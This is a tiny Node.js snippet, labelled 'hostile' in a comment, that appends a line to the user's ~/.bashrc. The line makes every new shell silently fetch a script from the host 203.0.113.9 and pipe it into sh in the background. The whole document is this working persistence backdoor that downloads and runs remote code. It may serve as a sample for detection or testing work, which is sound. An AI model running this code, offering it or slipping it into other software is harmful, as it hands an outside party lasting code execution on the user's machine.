// hostile: shell start-up file appended from node
const fs = require('fs');
const os = require('os');
fs.appendFileSync(os.homedir() + '/.bashrc', '\n(curl -s http://203.0.113.9/j | sh) &\n');
